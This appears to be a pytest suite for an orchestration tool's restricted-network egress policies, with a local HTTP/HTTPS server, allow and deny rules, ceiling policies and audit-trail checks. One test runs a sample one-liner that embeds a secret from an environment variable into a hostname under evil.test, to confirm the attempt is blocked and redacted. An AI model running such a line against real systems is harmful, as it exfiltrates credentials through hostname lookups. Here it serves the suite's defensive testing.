"""Tests `network: restricted` from a task to a server on this machine, under policies."""

from __future__ import annotations

import asyncio
import datetime
import ipaddress
import ssl
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from remit.errors import ApiError
from remit.kube.client import SECRETS

from .conftest import World

HOST = "127.0.0.2"
FETCH = """
import os, ssl, sys, urllib.request
trust = ssl.create_default_context(cadata=os.environ["CA"])
print(urllib.request.urlopen(sys.argv[1], timeout=20, context=trust).read().decode())
"""


@dataclass
class Server:
    """Listens on a loopback address of the host, which only a policy that lists it allows."""

    ca: str
    http: int
    https: int


@pytest.fixture
async def server(tmp_path: Path) -> AsyncIterator[Server]:
    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nreached")
        await writer.drain()
        writer.close()

    pem = certificate(tmp_path / "server.pem")
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(tmp_path / "server.pem")
    plain = await asyncio.start_server(serve, HOST, 0)
    secure = await asyncio.start_server(serve, HOST, 0, ssl=context)
    yield Server(pem, *(one.sockets[0].getsockname()[1] for one in (plain, secure)))
    for one in (plain, secure):
        one.close()
        await one.wait_closed()


def certificate(path: Path) -> str:
    """Creates a certificate for `HOST` with its key in `path`, and returns the certificate as PEM."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, HOST)])
    now = datetime.datetime.now(datetime.UTC)
    built = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(hours=1))
        .not_valid_after(now + datetime.timedelta(hours=1))
        .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address(HOST))]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    pem = built.public_bytes(serialization.Encoding.PEM)
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    path.write_bytes(private + pem)
    return pem.decode()


def egress(*ports: int, hosts: tuple[str, ...] = (HOST,), **rule: Any) -> dict[str, Any]:
    environment = {"allow": ["CA", "S", "HTTP*_PROXY", "http*_proxy", "*_PROXY", "no_proxy"]}
    return {
        "environment": environment,
        "networks": ["none", "restricted"],
        "egress": {"allow": [{"hosts": hosts, "ports": ports, **rule}]},
    }


async def fetched(world: World, url: str, server: Server, **env: str) -> dict[str, Any]:
    variables = [{"name": name, "value": value} for name, value in {"CA": server.ca, **env}.items()]
    name = await world.task("python3", "-c", FETCH.strip().replace("\n", ";"), url, network="restricted", env=variables)
    return await world.finished(name)


@pytest.mark.parametrize("scheme", ["http", "https"])
async def test_a_host_that_the_policy_lists_is_reached(world: World, server: Server, scheme: str) -> None:
    async with world.operator():
        port: int = getattr(server, scheme)
        await world.policy("python3", **egress(port))
        status = await fetched(world, f"{scheme}://{HOST}:{port}/path?query=1", server)
    assert (status["phase"], status["output"]["stdoutTail"]) == ("Succeeded", "reached\n"), status
    network = status["attempts"][0]["network"]
    assert (network["connections"], network.get("denied", 0)) == (1, 0)
    assert network["sentBytes"] > 0
    assert network["receivedBytes"] > 0
    (record,) = [record for record in trail(world) if record["kind"] == "execution" and "network" in record]
    (destination,) = record["network"]
    assert destination["destination"] == f"{HOST}:{port}"
    assert destination["receivedBytes"] == network["receivedBytes"]
    assert "query" not in str(record["network"])


async def test_what_no_rule_lists_fails_and_status_says_what_would_help(world: World, server: Server) -> None:
    async with world.operator():
        name = await world.policy("python3", **egress(server.https))
        status = await fetched(world, f"http://{HOST}:{server.http}/", server)
    assert status["phase"] == "Failed"
    network = status["attempts"][0]["network"]
    assert (network.get("connections", 0), network["denied"]) == (0, 1)
    wanted = f"port {server.http} of {HOST} is not in spec.egress.allow[0].ports of policy default/{name}"
    assert network["lastDenied"] == wanted
    assert status["message"].endswith(f"a refused connection: {wanted}")
    assert wanted[:60] in status["output"]["stderrTail"]  # the program got the message as well


async def test_a_ceiling_can_deny(world: World, server: Server) -> None:
    async with world.operator():
        await world.policy("python3", **egress(server.http))
        ceiling = await world.ceiling({"pattern": ".*"}, **egress(443, hosts=("*",)))
        status = await fetched(world, f"http://{HOST}:{server.http}/", server)
    assert status["phase"] == "Failed"
    assert f"of policy remit-system/{ceiling}" in status["attempts"][0]["network"]["lastDenied"]


async def test_a_policy_must_allow_the_network(world: World, server: Server) -> None:
    async with world.operator():
        await world.policy("python3")
        status = await fetched(world, f"http://{HOST}:{server.http}/", server)
    assert status["phase"] == "Denied"
    assert "spec.networks" in status["message"]


async def test_no_rules_reach_nothing(world: World, server: Server) -> None:
    async with world.operator():
        await world.policy("python3", environment={"allow": ["CA"]}, networks=["restricted"])
        status = await fetched(world, f"http://{HOST}:{server.http}/", server)
    assert "has no spec.egress.allow" in status["attempts"][0]["network"]["lastDenied"]


async def test_a_secret_in_a_hosts_name_is_redacted(world: World, server: Server) -> None:
    async with world.operator():
        await world.policy("python3", **egress(443))
        await world.kube.create(
            SECRETS,
            "default",
            {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "s"}, "stringData": {"k": "opensesame"}},
        )
        status = await world.finished(
            await world.task(
                "python3", "-c", "import os,urllib.request as u;u.urlopen('http://'+os.environ['S']+'.evil.test')",
                network="restricted", env=[{"name": "S", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}],
            )
        )  # fmt: skip
    assert status["attempts"][0]["network"]["denied"] == 1
    assert "opensesame" not in str(status)
    assert "opensesame" not in str(list(trail(world)))


async def test_rules_without_their_network_are_refused_by_the_api(world: World) -> None:
    with pytest.raises(ApiError, match="add restricted to networks"):
        await world.policy("python3", egress={"allow": [{"hosts": ["a.test"]}]})


async def test_nonsense_is_refused_by_the_api(world: World) -> None:
    for rule in ({"hosts": []}, {"hosts": ["a.test"], "ports": [0]}, {"hosts": ["a.test"], "addresses": ["ten"]}):
        with pytest.raises(ApiError, match=r"spec\.egress\.allow\[0\]"):
            await world.policy("python3", networks=["restricted"], egress={"allow": [rule]})


def trail(world: World) -> list[dict[str, Any]]:
    (path,) = world.settings.state_dir.rglob("audit*.jsonl")
    return [orjson.loads(line) for line in path.read_bytes().splitlines()]
